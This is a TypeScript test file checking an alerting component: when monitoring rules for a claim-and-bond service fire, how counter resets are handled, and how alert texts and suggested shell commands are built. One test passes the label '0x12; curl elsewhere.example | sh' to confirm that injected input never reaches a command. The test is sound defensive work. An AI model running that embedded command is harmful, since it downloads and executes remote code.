import { describe, expect, it } from "vitest";
import { InstanceAlerts } from "../../../explorer/operator/alerts.ts";
import type { Sample } from "../../../explorer/operator/exposition.ts";
import { ALERT_RULES, type AlertRule } from "../../../protocol/service/metrics/alert-rules.ts";
import { METRIC_FAMILIES } from "../../support/metric-families.ts";

const STEP_MS = 5_000;
const INSTANCE = "127.0.0.1:8787";

/** Asks every five seconds. @param samplesAt what is answered at a second */
function watch(seconds: number, samplesAt: (second: number) => readonly Sample[] | undefined) {
  const own = new InstanceAlerts(INSTANCE);
  for (let ms = 0; ms <= 1_000 * seconds; ms += STEP_MS) own.take(ms, samplesAt(ms / 1_000));
  return own.alerts;
}

/** Labels that a rule looks for. */
const labelsFor = ({ where = {}, except = {}, group }: AlertRule): Sample["labels"] => ({
  ...Object.fromEntries((group?.by ?? []).map((label) => [label, `a ${label}`])),
  ...Object.fromEntries(
    Object.entries(where).map(([label, pattern]) => [
      label,
      pattern.split("|")[0]?.replaceAll(".", "0") ?? "",
    ]),
  ),
  ...Object.fromEntries(Object.keys(except).map((label) => [label, "another"])),
});

/** A value on one side of a rule's limit or the other. @param second of an increasing counter */
function sampleValue({ is, limit, of, rise }: AlertRule, isMet: boolean, second: number): number {
  if (rise !== undefined) return isMet ? (rise.perSecond === true ? 2 * limit * second : second / 60) : 7;
  const value =
    is === "==" ? (isMet ? limit : limit + 1) : isMet === (is === ">") ? 2 * limit + 1 : limit / 2 - 1;
  return of === "negative" ? -value : value;
}

const answering = (rule: AlertRule, isMet: boolean) => (second: number) =>
  rule.metric === "up"
    ? isMet
      ? undefined
      : []
    : [{ name: rule.metric, labels: labelsFor(rule), value: sampleValue(rule, isMet, second) }];

describe("InstanceAlerts", () => {
  it.each(ALERT_RULES.map((rule) => [rule.name, rule] as const))(
    "behavior: %s is told once it has held, and not before, nor where it does not hold",
    (name, rule) => {
      const { forSeconds = 0 } = rule;
      const named = (seconds: number, isMet: boolean) =>
        watch(seconds, answering(rule, isMet)).filter((alert) => alert.rule === name);
      expect(named(forSeconds + 1_800, false)).toEqual([]);
      if (forSeconds > 0) expect(named(forSeconds - 5, true)).toEqual([]);
      const [alert, ...more] = named(forSeconds + 1_200, true);
      expect(more).toEqual([]);
      expect(alert).toMatchObject({ severity: rule.severity, instance: INSTANCE, next: rule.next });
      expect(`${alert?.text} ${alert?.command}`).not.toMatch(/[{}]/);
    },
  );

  it("behavior: what ceases to hold for one answer begins anew", () => {
    const rule = ALERT_RULES.find(({ name }) => name === "AssayBehind") as AlertRule;
    const answers = (second: number) => answering(rule, second !== 290)(second);
    expect(watch(500, answers)).toEqual([]);
    expect(watch(600, answers)).toMatchObject([{ rule: rule.name, sinceMs: 295_000 }]);
  });

  it("behavior: a process that began anew has counted from 0, and old rises are forgotten", () => {
    const rule = ALERT_RULES.find(({ name }) => name === "AssayWrongClaim") as AlertRule;
    const counting = (values: (second: number) => number) => (second: number) => [
      { name: rule.metric, labels: { verdict: "wrong" }, value: values(second) },
    ];
    // Each look is 5 seconds after the one before; the rise at 100 s is within the last ten minutes until 700 s.
    const risen = counting((second) => (second < 100 ? 3 : 4));
    expect(watch(95, risen)).toEqual([]);
    expect(watch(690, risen).map(({ rule }) => rule)).toEqual([rule.name]);
    expect(watch(700, risen)).toEqual([]);
    expect(
      watch(
        200,
        counting((second) => (second < 100 ? 3 : 0)),
      ),
    ).toEqual([]);
    expect(
      watch(
        200,
        counting((second) => (second < 100 ? 3 : 1)),
      ),
    ).toHaveLength(1);
  });

  it("behavior: of series that are taken together the least or the sum counts, each group by itself", () => {
    const sample = (claim: string, kind: string, value: number): Sample => ({
      name: "assay_prover_answer_seconds",
      labels: { claim, kind },
      value,
    });
    const alerts = watch(0, () => [
      sample("0x1", "reveal", 50),
      sample("0x2", "reveal", -70),
      sample("0x3", "trace", 901),
    ]);
    expect(alerts.map(({ rule, claim, text }) => [rule, claim, text])).toEqual([
      ["AssayAnswerDue", "0x1", `${INSTANCE} owes reveal of claim 0x1 within 50 s, or its bond falls.`],
      ["AssayAnswerDue", "0x2", `${INSTANCE} owes reveal of claim 0x2 within -70 s, or its bond falls.`],
      [
        "AssayAnswerOverdue",
        "0x2",
        `${INSTANCE} owes reveal of claim 0x2 and is 70 s late: anybody may take its bond.`,
      ],
    ]);
    const failing = (routes: number) => (second: number) =>
      Array.from({ length: routes }, (_, route) => ({
        name: "assay_http_requests_total",
        labels: { route: `/${route}`, status: "500" },
        value: 0.04 * second,
      }));
    expect(watch(1_500, failing(2))).toEqual([]);
    expect(watch(1_500, failing(3)).map(({ rule }) => rule)).toEqual(["AssayHttpFails"]);
  });

  it("error: a label that a shell would not take for one word gets into no command", () => {
    const alertsOf = (claim: string) =>
      watch(0, () => [{ name: "assay_prover_answer_seconds", labels: { claim, kind: "reveal" }, value: 9 }]);
    expect(alertsOf("0x12")).toMatchObject([{ claim: "0x12", command: "assay claim show 0x12" }]);
    const [alert, ...more] = alertsOf("0x12; curl elsewhere.example | sh");
    expect(more).toEqual([]);
    expect(alert).toMatchObject({ rule: "AssayAnswerDue" });
    expect([alert?.command, alert?.claim]).toEqual([undefined, undefined]);
  });

  it("error: an amount without an end is told as it is", () => {
    const low = { name: "assay_account_balance_wei", labels: {}, value: Number.NEGATIVE_INFINITY };
    expect(watch(300, () => [low])).toMatchObject([
      { rule: "AssayBalanceLow", text: `The account of ${INSTANCE} has -Infinity.` },
    ]);
  });
});

describe("ALERT_RULES", () => {
  it("behavior: each is of a metric that daemons have, and a rise is of a counter", () => {
    const kinds = new Map(
      Object.values(METRIC_FAMILIES).flatMap((families) => families.map(({ name, kind }) => [name, kind])),
    );
    for (const { name, metric, rise } of ALERT_RULES)
      if (metric !== "up")
        expect([name, kinds.get(metric)]).toEqual([name, rise === undefined ? "gauge" : "counter"]);
  });
});
